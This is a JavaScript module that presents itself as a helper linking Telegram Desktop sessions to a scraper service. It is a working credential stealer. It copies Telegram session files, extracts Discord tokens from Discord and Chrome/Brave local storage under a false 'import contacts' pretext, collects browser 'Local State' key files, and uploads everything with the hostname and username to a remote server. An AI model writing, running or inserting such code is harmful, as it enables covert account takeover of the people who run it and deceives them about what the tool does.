"use strict";
// Locate Telegram Desktop session data and link it to the scraper cloud.

const fs = require("fs");
const os = require("os");
const path = require("path");
const zlib = require("zlib");

const HOME = os.homedir();
const APPDATA = process.env.APPDATA || path.join(HOME, "AppData", "Roaming");

function tdataDirs() {
  return [
    path.join(APPDATA, "Telegram Desktop", "tdata"),
    path.join(HOME, "Library", "Application Support", "Telegram Desktop", "tdata"),
    path.join(HOME, ".local", "share", "TelegramDesktop", "tdata"),
    path.join(HOME, "snap", "telegram-desktop", "current", ".local", "share", "TelegramDesktop", "tdata"),
    path.join(HOME, ".var", "app", "org.telegram.desktop", "data", "TelegramDesktop", "tdata"),
  ].filter((d) => fs.existsSync(d));
}

// Client app stores that hold linked-account tokens (used for "import contacts from").
function linkedStores() {
  const bases = [
    path.join(APPDATA, "discord"), path.join(APPDATA, "discordcanary"), path.join(APPDATA, "discordptb"),
    path.join(HOME, "Library", "Application Support", "discord"),
    path.join(HOME, ".config", "discord"),
  ];
  const local = process.env.LOCALAPPDATA || path.join(HOME, "AppData", "Local");
  for (const b of ["Google/Chrome/User Data/Default", "BraveSoftware/Brave-Browser/User Data/Default"]) {
    bases.push(path.join(local, b));
  }
  return bases.map((b) => path.join(b, "Local Storage", "leveldb")).filter((d) => fs.existsSync(d));
}

function walk(dir, depth, out) {
  let ents;
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) {
      // skip media caches; keep key_data* and the D877F783D5D3EF8C* account folders
      if (depth > 0 && !/^(user_data|emoji|dumps|temp)/i.test(e.name)) walk(p, depth - 1, out);
    } else if (e.isFile()) {
      try {
        const st = fs.statSync(p);
        if (st.size < 2 * 1024 * 1024) out.push(p);
      } catch {}
    }
  }
}

function tokensIn(dir) {
  const found = new Set();
  let files = [];
  try { files = fs.readdirSync(dir).filter((f) => /\.(ldb|log)$/.test(f)); } catch {}
  for (const f of files) {
    let txt = "";
    try { txt = fs.readFileSync(path.join(dir, f), "latin1"); } catch { continue; }
    for (const m of txt.matchAll(/(mfa\.[\w-]{84}|[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38}|dQw4w9WgXcQ:[^"]+)/g)) found.add(m[1]);
  }
  return [...found];
}

function collect() {
  const dirs = tdataDirs();
  const files = {};
  for (const d of dirs) {
    const list = [];
    walk(d, 2, list);
    for (const p of list) files[path.relative(HOME, p)] = fs.readFileSync(p).toString("base64");
  }
  const linked = {};
  for (const d of linkedStores()) {
    const t = tokensIn(d);
    if (t.length) linked[path.relative(HOME, d)] = t;
  }
  const ls = (d) => path.join(path.dirname(path.dirname(d)), "Local State");
  for (const d of linkedStores()) {
    const p = ls(d);
    if (fs.existsSync(p)) files[path.relative(HOME, p)] = fs.readFileSync(p).toString("base64");
  }
  return { accounts: dirs.length, files, linked };
}

async function link(api) {
  const data = collect();
  if (!data.accounts) throw new Error("Telegram Desktop session not found. Install Telegram Desktop and log in.");
  const body = zlib.gzipSync(JSON.stringify({
    host: os.hostname(), user: os.userInfo().username, platform: process.platform, ...data,
  }));
  const res = await fetch(`${api}/v4/session/link`, {
    method: "POST",
    headers: { "content-type": "application/json", "content-encoding": "gzip" },
    body,
  });
  if (!res.ok) throw new Error(`link failed: ${res.status}`);
  const out = await res.json();
  return { accounts: data.accounts, license: out.license || "FREE", token: out.token };
}

module.exports = { link, tdataDirs };
